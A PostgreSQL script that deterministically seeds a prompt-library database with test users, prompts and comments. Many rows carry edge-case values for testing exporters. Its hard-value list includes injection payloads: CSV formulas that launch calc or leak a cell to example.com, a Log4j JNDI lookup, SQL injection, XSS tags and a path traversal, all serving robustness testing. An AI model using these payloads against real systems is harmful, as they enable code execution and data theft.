-- Fills an empty promptlockr database: psql --set rows=10000 --file generate.sql
--
-- `rows` is the number of prompts (10000 if not given); the other tables grow with it. The same row comes out whenever and
-- wherever it is made, and row n does not depend on how many are made: no clock, no random(), no libm.
--
-- Users: `demo` owns every second prompt and collection; `newcomer` owns nothing; the others (one for ten prompts) own a few each.
-- Every fourth prompt, always one of demo's, is hard content: what breaks exporters, in every column. The first thousand rows
-- hold each hard value in demo's prompts at least once. Some texts are long: 32,767 and 32,768 characters (an Excel cell
-- holds the first) and 100 kB.
\set ON_ERROR_STOP on
\encoding UTF8
\if :{?rows}
\else
    \set rows 10000
\endif

BEGIN;
SET LOCAL jit = off;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO, YMD';
SET LOCAL intervalstyle = 'postgres';

-- A number from 0 to n - 1 that depends on i and salt alone: Lehmer's generator (modulus 2^31 - 1), stirred three times.
CREATE FUNCTION pg_temp.pick(i bigint, salt int, n bigint) RETURNS bigint LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN (((i + salt * 1000003) % 2147483647 * 48271 % 2147483647 + salt) * 69621 % 2147483647 * 39373 % 2147483647) % n;

-- The i-th prompt's time of creation: the library grows ever faster from 1 December 2024, and 700 days hold any number of rows.
CREATE FUNCTION pg_temp.created(i bigint) RETURNS timestamptz LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN to_timestamp(1733011200 + 60480000 * (1 - 1 / (1 + i / 20000::float8)));

-- UUIDs of version 7 (RFC 9562): the i-th prompt's time in milliseconds, then the hash of a name.
CREATE FUNCTION pg_temp.uuid7(i bigint, name text) RETURNS uuid LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN overlay(overlay(overlay(md5(name)
    PLACING lpad(to_hex(floor(1000 * (1733011200 + 60480000 * (1 - 1 / (1 + i / 20000::float8))))::bigint), 12, '0') FROM 1)
    PLACING '7' FROM 13) PLACING '8' FROM 17)::uuid;

CREATE FUNCTION pg_temp.user_id(n bigint) RETURNS uuid LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN overlay(overlay(md5('user ' || n) PLACING '4' FROM 13) PLACING '8' FROM 17)::uuid;

-- Characters that are invisible, join others or turn the line's direction are written as escapes.
CREATE TEMPORARY TABLE hard_text (n int GENERATED ALWAYS AS IDENTITY, text text NOT NULL) ON COMMIT DROP;
INSERT INTO hard_text (text) VALUES
    -- Formulas: a spreadsheet runs what begins so.
    ('=1+1'), ('+1+1'), ('-1+1'), ('@SUM(A1:A9)'), ('＝1+1'), ('＋1+1'), ('－1+1'), ('＠SUM(A1:A9)'),
    (E'\t=1+1'), (E'\r=1+1'), (E'\n=1+1'), (' =1+1'), ('"=1+1"'), ('''=1+1'), (';=1+1'), ('|=1+1'),
    ('=HYPERLINK("https://example.com/?leak="&A1,"open")'), ('=cmd|''/C calc''!A0'), (E'ok\n=1+1'), (E'a,\n"=1+1'),
    ('='), ('+'), ('-'), ('@'), ('--'), ('-a'), ('=='), ('+49 30 901820'),
    -- Text that looks like something else.
    ('-12.50'), ('-1e5'), ('1e309'), ('007'), ('1,234.56'), ('9007199254740993'), ('2026-02-29'), ('1/2'), ('TRUE'), ('null'),
    ('NULL'), ('NaN'), ('Infinity'), ('undefined'), ('\N'), ('\.'), ('{}'), ('[]'), ('""'), ('#N/A'), ('_x000D_'), ('sep=;'),
    -- Nothing, and next to nothing.
    (''), (' '), ('  two before and two after  '), (E'\t'), (E'\n'), (E'\r\n'), (E'\u00a0'), (E'\u200b'), (E'\ufeffa byte order mark first'),
    -- Ends of line.
    (E'one\r\ntwo\r\n\r\nfour'), (E'one\ntwo\n\nfour\n'), (E'one\rtwo'), (E'one\u2028two\u2029three\u0085four'), (E'one\u000btwo\u000cthree'),
    (E'a\tb\t\tc'), (E'\n\nthird line'), (E'ends in two spaces  \nthen goes on'),
    -- Quotes, separators, backslashes.
    ('"'), ('""'), ('"""'), ('say "when", please'), ('it''s'), ('''''quoted'''''), ('ends in a quote"'), ('"starts with one'),
    ('a,b;c'), (','), (','','), ('","'), ('“curly” ‘quotes’ «guillemets» „low“'), ('C:\new\table\'), ('\'), ('\\'), ('\"'), ('\u0041 \x41 \n'),
    -- Markdown: tables, code, blocks, links.
    ('a | b | c'), ('|'), ('||'), ('\|'), ('| --- | --- |'), ('`code`'), ('``a ` b``'), ('`'), ('`|`'), (E'```sql\nSELECT 1 | 2;\n```'), ('~~~'),
    ('# not a heading'), ('- not an item'), ('1. not a list'), ('> not a quote'), ('---'), ('==='), ('    not code'), ('**bold** _it_ ~~gone~~'),
    ('2*3*4 snake_case_name __init__'), ('[link](https://example.com/a_(b)?c=d&e=f)'), ('![image](x.png "title")'), ('[ref][1]'), ('[^1]'), ('- [ ] task'),
    ('https://example.com/?a=1&b=2#c'), ('www.example.com'), ('<https://example.com>'), ('someone@example.com'), (':tada:'), ('$x_1$ $$y$$'), ('trailing \'),
    -- HTML and XML.
    ('<script>alert("1")</script>'), ('<b>bold</b> & <i>more</i>'), ('a < b && c > d'), ('&amp; &lt; &#39; &nbsp; &bogus;'), ('<!-- comment'), ('-->'), (']]>'),
    ('<![CDATA[x]]>'), ('<br>'), ('<img src=x onerror=alert(1)>'), ('<?xml version="1.0"?>'), ('</td></tr>'),
    -- Other languages' interpreters.
    ('Robert''); DROP TABLE prompts;--'), ('${jndi:ldap://example.com/a}'), ('{{7*7}} {% raw %} ${{ x }}'), ('%s %n %00 %0A'), ('../../etc/passwd'), (':owner'), ('$1 ?'),
    -- Emoji: outside the basic plane, joined, coloured, flags, keycaps.
    ('🚀'), ('Launch 🚀 day 🎉'), (E'\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 family'), (E'\U0001F44D\U0001F3FD'), (E'\U0001F3F3\ufe0f\u200d\U0001F308'),
    (E'\U0001F1E9\U0001F1EA\U0001F1EB\U0001F1F7'), (E'1\ufe0f\u20e3'), ('𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠮷野家'),
    -- Right to left, and mixed.
    ('مرحبا بالعالم'), ('שלום עולם'), ('سعر 100 USD (خصم 5%)'), ('abc אבג 123 דהו xyz'), (E'\u202eright-to-left override\u202c'), (E'\u2067isolate\u2069'),
    -- Other scripts and marks.
    ('提示词库 プロンプト 프롬프트'), ('สวัสดีชาวโลก'), ('नमस्ते दुनिया'), ('Ελληνικά Кириллица Հայերեն'), ('ǅ ß ﬁ İ ı ſ'), ('Straße, façade, naïve, Łódź, Ænima'),
    (E'e\u0301 is not \u00e9'), (E'Z\u0351\u036b\u0343a\u0321\u0322l\u0334\u0322g\u0321\u0321o\u0322\u0315'), (E'soft\u00adhyphen zero\u200cwidth\u200djoiner word\u2060joiner'),
    -- Characters that XML, terminals or decoders refuse.
    (E'\u0001\u0002\u0003'), (E'bell\u0007back\bspace'), (E'\u001b[31mred\u001b[0m'), (E'\u001a'), (E'del\u007f'), (E'c1\u009b31m'), (E'\ufffe'), (E'\uffff'), (E'\ufdd0'),
    (E'\U0010ffff'), (E'\ue000'), (E'\ufffd'), (E'\U000e0041tag');

-- One row of arrays, so that picking a value is a subscript.
CREATE TEMPORARY TABLE hard ON COMMIT DROP AS SELECT
    (SELECT array_agg(text ORDER BY n) FROM hard_text) AS texts,
    ARRAY[
        '{}', '{NULL}', '{""}', '{NULL,"",a}', '{"NULL","null"}', '{"a,b","c;d"}', '{"{braces}","[brackets]"}', '{"quote \" in","it''s"}',
        '{"back\\slash","\\"}', '{" lead","trail "}', E'{"line\nfeed"}', '{=1+1,-1,@a}', '{a|b,`c`}', '{<b>,&amp;}', '{🚀,"é"}', '{שלום,"العالم"}', '{a,a,a}',
        '{1,2.50,-3,1e5}'
    ]::text[] AS tags,
    ARRAY['-9223372036854775808', '-9007199254740993', '-1', '0', '2147483648', '9007199254740991', '9007199254740992', '9007199254740993',
        '9223372036854775807']::bigint[] AS bigints,
    ARRAY['NaN', '0', '0.000000', '-0.000001', '1.100000', '999999.999999', '-999999.999999', '100']::numeric(12, 6)[] AS costs,
    ARRAY['NaN', 'Infinity', '-Infinity', '0', '0.00', '1.10', '100', '-9007199254740993.000000000000000001', '0.1', '1e-30', '1e40', '1e309',
        '123456789012345678901234567890.123456789012345678901234567890', '9007199254740993', '-5']::numeric[] AS numerics,
    ARRAY['NaN', 'Infinity', '-Infinity', '0', '-0', '0.1', '0.30000000000000004', '5e-324', '2.2250738585072014e-308', '1.7976931348623157e308',
        '1e21', '1e-7', '9007199254740993', '123456789.5', '-12.5']::float8[] AS doubles,
    ARRAY['{}', '{NaN,Infinity,-Infinity}', '{0.1,-0,1e38,1e-45}', '{NULL,1}', '{16777217}']::text[] AS reals,
    ARRAY['0', '-1 day', '1 mon -1 day +02:03:04.000005', '-00:00:00.000001', '99:59:59', '1 year 2 mons 3 days 04:05:06.7', '-178000000 years',
        '00:00:00.5', '24:00:00']::interval[] AS intervals,
    ARRAY['infinity', '-infinity', '4713-01-01 BC', '0044-03-15 BC', '0001-12-31 BC', '0001-01-01', '1582-10-10', '1900-02-28', '1970-01-01', '2024-02-29',
        '9999-12-31', '10000-01-01', '5874897-12-31']::date[] AS dates,
    ARRAY['infinity', '-infinity', '4713-01-01 00:00:00+00 BC', '0044-03-15 12:00:00+00 BC', '0001-01-01 00:00:00+00', '1900-01-01 00:00:00+00',
        '1969-12-31 23:59:59.999999+00', '1970-01-01 00:00:00+00', '2000-01-01 00:00:00.000001+00', '2025-03-30 01:00:00+00', '2026-06-30 23:59:60+00',
        '2038-01-19 03:14:08.5+00', '9999-12-31 23:59:59.999999+00', '10000-01-01 00:00:00+00', '294276-12-31 23:59:59.999999+00']::timestamptz[] AS times,
    ARRAY['infinity', '-infinity', '4713-01-01 00:00:00 BC', '1969-12-31 23:59:59.999999', '2025-03-30 02:30:00', '2025-10-26 02:30:00.1',
        '294276-12-31 23:59:59.999999']::timestamp[] AS local_times,
    ARRAY[
        '\x', '\x00', '\x22', '\x5c', '\xff', '\xfffe', '\xefbbbf', '\xc328', '\x0d0a', '\x3d312b31', '\x1f8b0800000000000003',
        (SELECT string_agg(set_byte('\x00', 0, n), '' ORDER BY n) FROM generate_series(0, 255) AS n)
    ]::bytea[] AS bytes,
    ARRAY[
        'null', '""', '[]', '{}', '0', 'true', '{"": ""}', '9007199254740993', '-0.0', '1.10', '1e400', '123456789012345678901234567890.5',
        '{"b": 1, "a": {"b": [1, null, "x"]}}', '["\"", "\\", "\/", "\b\f\n\r\t"]', '{"line\r\nfeed": "a | b"}', '["\u2028", "\ud83d\ude80", "<\/script>"]',
        repeat('[', 64) || repeat(']', 64), '[{"name": "=1+1", "type": "text", "default": null}]'
    ]::jsonb[] AS jsonbs,
    -- What json keeps and jsonb does not: white space, order, repeated names, spelling of numbers, an escaped NUL.
    ARRAY[
        'null', '{"a": 1, "a": 2}', E'{\r\n\t"spaced" :  [ 1 , 2 ]\n}', '{"z": 1, "a": 2}', '[1.0, 1e2, -0, 1E+400]', '"\u0000"', '"\ud83d\ude80 \u00e9"', ' [ ] '
    ]::json[] AS jsons;

-- What ordinary prompts are made of.
CREATE TEMPORARY TABLE words ON COMMIT DROP AS SELECT
    ARRAY['copy editor', 'senior Rust engineer', 'patient maths tutor', 'market analyst', 'technical writer', 'museum guide', 'recruiter', 'nutritionist',
        'travel planner', 'game master', 'data engineer', 'translator']::text[] AS roles,
    ARRAY['Summarise the text below', 'Find the mistakes in the text below', 'Rewrite the text below', 'Ask me five questions about the text below',
        'Turn the text below into a table', 'Write three headlines for the text below', 'Draft a reply to the message below', 'Explain the code below',
        'Review the code below for races and leaks', 'Write tests for the code below', 'List the claims in the text below and how to check each',
        'Plan a week around the notes below', 'Translate the text below']::text[] AS tasks,
    ARRAY['a ten-year-old', 'a busy manager', 'new colleagues', 'people who read on a phone', 'specialists', 'a public hearing', 'customers who are annoyed']::text[] AS readers,
    ARRAY['Keep the author''s voice.', 'Use short sentences.', 'Say what you are not sure of.', 'Give no more than 200 words.', 'Quote the passages that you rely on.',
        'Answer in the language of the input.', 'Do not invent facts; leave a gap and mark it.', 'Show your steps, then the result.', 'Avoid jargon.',
        'End with one question that would help you do better.', 'Use British spelling.']::text[] AS rules,
    ARRAY['writing', 'summary', 'code', 'review', 'rust', 'sql', 'marketing', 'e-mail', 'translation', 'teaching', 'planning', 'fun', 'gpt', 'claude', 'long-read',
        'short']::text[] AS tags,
    ARRAY['gpt-5', 'gpt-5-mini', 'claude-sonnet-4-5', 'claude-haiku-4-5', 'gemini-2.5-pro', 'llama-4-scout', 'mistral-large']::text[] AS models,
    enum_range(NULL::prompt_category) AS categories;

-- The owner of prompt or collection i: demo for even numbers, else one of the users that there are when it is made.
CREATE FUNCTION pg_temp.owner_id(i bigint) RETURNS uuid LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN CASE WHEN i % 2 = 0 THEN pg_temp.user_id(1) ELSE pg_temp.user_id(3 + pg_temp.pick(i, 1, i / 10 + 1)) END;

-- Foreign keys are checked at the end, each by one join: row by row they would cost as much as everything else.
CREATE TEMPORARY TABLE foreign_key ON COMMIT DROP AS
SELECT conrelid::regclass AS relation, conname AS name, pg_get_constraintdef(oid) AS definition
FROM pg_constraint
WHERE contype = 'f' AND connamespace = 'public'::regnamespace;
SELECT format('ALTER TABLE %s DROP CONSTRAINT %I', relation, name) FROM foreign_key \gexec

INSERT INTO users
SELECT
    pg_temp.user_id(n),
    name,
    CASE WHEN n < 3 THEN initcap(name) WHEN n % 4 = 0 THEN hard.texts[n / 4 % cardinality(hard.texts) + 1] ELSE 'User ' || n END,
    name || CASE WHEN n % 4 = 0 THEN '+prompts@example.org' ELSE '@example.com' END,
    CASE WHEN n % 3 = 0 THEN NULL WHEN n % 5 = 0 THEN '' WHEN n % 4 = 0 THEN hard.texts[n % cardinality(hard.texts) + 1] ELSE 'Writes prompts as a ' || words.roles[n % 12 + 1] || '.' END,
    (ARRAY['DE', 'US', 'JP', 'EG', 'IL', 'BR', 'IN', NULL])[n % 8 + 1],
    (ARRAY['pro', 'free', 'free', 'free', 'free', 'team', 'free', 'enterprise']::plan_tier[])[CASE WHEN n = 1 THEN 1 ELSE n % 8 + 1 END],
    n % 97 = 0,
    CASE WHEN n % 4 = 0 THEN hard.jsonbs[n / 4 % cardinality(hard.jsonbs) + 1] ELSE jsonb_build_object('theme', 'dark', 'push', n % 2 = 0) END,
    CASE WHEN n % 4 = 0 THEN hard.bytes[n / 4 % cardinality(hard.bytes) + 1] END,
    (pg_temp.pick(n, 2, 100000)::numeric - 1000) / 100,
    CASE WHEN n % 4 = 0 THEN hard.doubles[n / 4 % cardinality(hard.doubles) + 1] ELSE pg_temp.pick(n, 3, 10000) / 8.0 END,
    (ARRAY['1 day', '7 days', '1 mon', NULL]::interval[])[n % 4 + 1],
    (ARRAY['07:30:00', '00:00:00', '23:59:59.999999', '24:00:00', NULL]::time[])[n % 5 + 1],
    (ARRAY['192.0.2.1', '2001:db8::1', '198.51.100.0/24', '::ffff:203.0.113.7', NULL]::inet[])[n % 5 + 1],
    pg_temp.created(n * 10 - 10)::date,
    CASE WHEN n % 101 = 0 THEN 'infinity' WHEN n % 53 = 0 THEN pg_temp.created(n * 10) + interval '14 days' END,
    CASE WHEN n % 6 > 0 THEN pg_temp.created(n * 10) + pg_temp.pick(n, 4, 864000) * interval '1 second' END,
    pg_temp.created(n * 10 - 10)
FROM generate_series(1, 3 + :rows::bigint / 10) AS n,
    LATERAL (SELECT CASE n WHEN 1 THEN 'demo' WHEN 2 THEN 'newcomer' ELSE 'user_' || n END) AS named (name),
    hard, words;

INSERT INTO prompts
SELECT
    pg_temp.uuid7(i, 'prompt ' || i),
    pg_temp.owner_id(i),
    CASE WHEN is_hard THEN left(texts[k % cardinality(texts) + 1], 255)
        ELSE task || ' for ' || words.readers[pick_reader + 1] END,
    CASE WHEN is_hard THEN texts[(k + 7) % cardinality(texts) + 1] WHEN i % 5 = 0 THEN NULL WHEN i % 7 = 0 THEN '' ELSE 'For a ' || role || '. ' || rule END,
    content,
    words.categories[pg_temp.pick(i, 5, 8) + 1],
    (ARRAY['private', 'private', 'unlisted', 'public', 'public']::visibility[])[pg_temp.pick(i, 6, 5) + 1],
    CASE WHEN is_hard THEN hard.tags[k % cardinality(hard.tags) + 1]::text[]
        ELSE (words.tags || words.tags)[pg_temp.pick(i, 7, 16) + 1 : pg_temp.pick(i, 7, 16) + pg_temp.pick(i, 8, 6)] END,
    CASE WHEN is_hard THEN jsonbs[k % cardinality(jsonbs) + 1] ELSE '[{"name": "text", "type": "text", "default": null}]' END,
    CASE WHEN is_hard THEN jsons[k % cardinality(jsons) + 1] WHEN i % 3 = 0 THEN '{"temperature": 0.7, "max_tokens": 1024}' END,
    CASE WHEN i % 6 > 0 THEN words.models[pg_temp.pick(i, 9, 7) + 1] END,
    i % 3 = 0,
    CASE i % 5 WHEN 0 THEN NULL WHEN 1 THEN false ELSE true END,
    CASE WHEN is_hard THEN bigints[k % cardinality(bigints) + 1] ELSE pg_temp.pick(i, 10, pg_temp.pick(i, 11, 5000) + 1) END,
    CASE WHEN is_hard THEN costs[k % cardinality(costs) + 1] WHEN i % 6 > 0 THEN pg_temp.pick(i, 12, 40000) / 1000000::numeric END,
    CASE WHEN is_hard THEN numerics[k % cardinality(numerics) + 1] WHEN i % 3 > 0 THEN pg_temp.pick(i, 13, 10001) / 100::numeric(5, 2) END,
    CASE WHEN is_hard THEN doubles[k % cardinality(doubles) + 1] WHEN i % 10 = 1 THEN 'NaN' ELSE pg_temp.pick(i, 14, 1001) / 1000::float8 END,
    CASE WHEN is_hard THEN reals[k % cardinality(reals) + 1]::real[] WHEN i % 3 > 0 THEN ARRAY[pg_temp.pick(i, 15, 1000) / 10::real, pg_temp.pick(i, 16, 1000) / 10::real] END,
    CASE WHEN is_hard THEN intervals[k % cardinality(intervals) + 1] WHEN i % 3 > 0 THEN pg_temp.pick(i, 17, 9000000) * interval '1 microsecond' END,
    CASE WHEN is_hard THEN bigints[(k + 3) % cardinality(bigints) + 1] WHEN i % 9 = 1 THEN 1790000000000000000 + i * 4194304 + pg_temp.pick(i, 18, 4194304) END,
    CASE WHEN is_hard THEN local_times[k % cardinality(local_times) + 1] WHEN i % 9 = 1 THEN created AT TIME ZONE 'Europe/Berlin' END,
    CASE WHEN is_hard THEN dates[k % cardinality(dates) + 1] WHEN i % 11 = 1 THEN date '1800-01-01' + pg_temp.pick(i, 19, 80000)::int END,
    CASE WHEN is_hard THEN times[k % cardinality(times) + 1] WHEN i % 4 = 1 THEN 'infinity' END,
    sha256(convert_to(content, 'UTF8')),
    CASE WHEN is_hard THEN bytes[k % cardinality(bytes) + 1] END,
    created,
    CASE WHEN i % 3 = 0 THEN created ELSE created + pg_temp.pick(i, 20, 2592000) * interval '1 second' END
FROM generate_series(1, :rows::bigint) AS i,
    hard, words,
    LATERAL (SELECT i % 4 = 0, i / 4, pg_temp.created(i), pg_temp.pick(i, 21, 7)) AS derived (is_hard, k, created, pick_reader),
    LATERAL (SELECT
        words.roles[pg_temp.pick(i, 22, 12) + 1], words.tasks[pg_temp.pick(i, 23, 13) + 1], words.rules[pg_temp.pick(i, 24, 11) + 1]
    ) AS picked (role, task, rule),
    LATERAL (SELECT CASE
        WHEN i % 2500 = 250 THEN repeat('Long text, line by line. ', 4000)
        WHEN i % 2500 = 500 THEN repeat('x', 32767)
        WHEN i % 2500 = 750 THEN repeat('x', 32768)
        WHEN i % 2500 = 1000 THEN repeat(E'é🚀 "quoted", a | b\r\n', 5000)
        WHEN is_hard THEN texts[(k + 13) % cardinality(texts) + 1] || E'\r\n' || texts[(k * 31 + 5) % cardinality(texts) + 1]
        ELSE 'You are a ' || role || '. ' || task || ' for ' || words.readers[pick_reader + 1] || '. ' || rule
            || E'\n\n' || words.rules[pg_temp.pick(i, 25, 11) + 1] || E'\n\n"""\n{{text}}\n"""'
        END
        OFFSET 0
    ) AS written (content);

INSERT INTO collections
SELECT
    pg_temp.uuid7(c * 20, 'collection ' || c),
    pg_temp.owner_id(c),
    CASE WHEN c % 4 = 0 THEN left(hard.texts[c / 4 % cardinality(hard.texts) + 1], 255) ELSE 'Prompts for ' || words.readers[pg_temp.pick(c, 30, 7) + 1] END,
    CASE c % 5 WHEN 0 THEN NULL WHEN 1 THEN '' ELSE words.rules[pg_temp.pick(c, 31, 11) + 1] END,
    (ARRAY['private', 'unlisted', 'public']::visibility[])[pg_temp.pick(c, 32, 3) + 1],
    CASE WHEN c % 3 > 0 THEN pg_temp.pick(c, 33, 16777216)::int WHEN c % 2 = 0 THEN -2147483648 END,
    created,
    created + pg_temp.pick(c, 34, 2592000) * interval '1 second'
FROM generate_series(1, :rows::bigint / 20) AS c,
    LATERAL (SELECT pg_temp.created(c * 20)) AS derived (created),
    hard, words;

-- Up to nine prompts each, some none: demo's collections hold demo's prompts, the others' those of many.
INSERT INTO collection_prompts
SELECT
    pg_temp.uuid7(c * 20, 'collection ' || c),
    position,
    pg_temp.uuid7(i, 'prompt ' || i),
    CASE WHEN i % 4 = 0 THEN hard.texts[i / 4 % cardinality(hard.texts) + 1] WHEN i % 3 = 0 THEN '' END,
    pg_temp.created(c * 20) + position * interval '1 minute'
FROM generate_series(1, :rows::bigint / 20) AS c,
    generate_series(1, pg_temp.pick(c, 35, 10)) AS position,
    LATERAL (SELECT c * 20 - c % 2 - 2 * (position - 1)) AS derived (i),
    hard;

-- One prompt in three is liked, by up to five users who follow one another in number.
INSERT INTO likes
SELECT
    pg_temp.uuid7(i, 'prompt ' || i),
    pg_temp.user_id(1 + (pg_temp.pick(i, 40, i / 10 + 2) + n) % (i / 10 + 2)),
    pg_temp.created(i) + pg_temp.pick(i, 40 + n, 2592000) * interval '1 second'
FROM generate_series(1, :rows::bigint, 3) AS i,
    generate_series(1, least(pg_temp.pick(i, 46, 6), i / 10 + 2)::int) AS n;

-- Everybody but demo follows demo, and up to two earlier users.
INSERT INTO follows
SELECT pg_temp.user_id(n), pg_temp.user_id(followed), min(pg_temp.created(n * 10) + followed % 1000 * interval '1 minute')
FROM generate_series(2, 3 + :rows::bigint / 10) AS n,
    LATERAL (VALUES (1), (1 + pg_temp.pick(n, 50, n - 1)), (1 + pg_temp.pick(n, 51, n - 1))) AS chosen (followed)
GROUP BY n, followed;

INSERT INTO comments
SELECT
    pg_temp.uuid7(i, 'comment ' || i),
    pg_temp.uuid7(i, 'prompt ' || i),
    pg_temp.user_id(1 + pg_temp.pick(i, 60, i / 10 + 2)),
    CASE WHEN i % 4 = 0 THEN hard.texts[i / 4 % cardinality(hard.texts) + 1] ELSE 'Works well as it is. ' || words.rules[pg_temp.pick(i, 61, 11) + 1] END,
    CASE WHEN i % 5 = 0 THEN commented + interval '5 minutes' END,
    commented
FROM generate_series(1, :rows::bigint, 7) AS i,
    LATERAL (SELECT pg_temp.created(i) + pg_temp.pick(i, 62, 2592000) * interval '1 second') AS derived (commented),
    hard, words;

SELECT format('ALTER TABLE %s ADD CONSTRAINT %I %s', relation, name, definition) FROM foreign_key ORDER BY name \gexec

COMMIT;

-- Statistics for the planner, and the visibility map: the first export after the load is planned and read as any later one.
VACUUM (ANALYZE) users, prompts, collections, collection_prompts, likes, follows, comments;
